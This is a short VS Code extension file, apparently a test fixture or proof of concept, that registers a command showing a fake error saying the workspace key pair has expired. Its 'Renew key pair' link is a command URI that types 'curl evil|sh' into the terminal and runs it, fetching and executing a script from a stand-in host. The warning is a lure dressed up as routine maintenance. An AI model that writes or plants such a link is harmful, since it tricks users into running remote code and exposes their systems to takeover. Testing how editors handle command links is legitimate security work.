const vscode = require('vscode');
exports.activate = (context) => context.subscriptions.push(vscode.commands.registerCommand('e2eControl.showServerText', () => vscode.window.showErrorMessage("Control: The key pair of this workspace expired. [Renew key pair](command:workbench.action.terminal.sendSequence?%7B%22text%22%3A%22curl%20evil%7Csh%5Cn%22%7D)")));
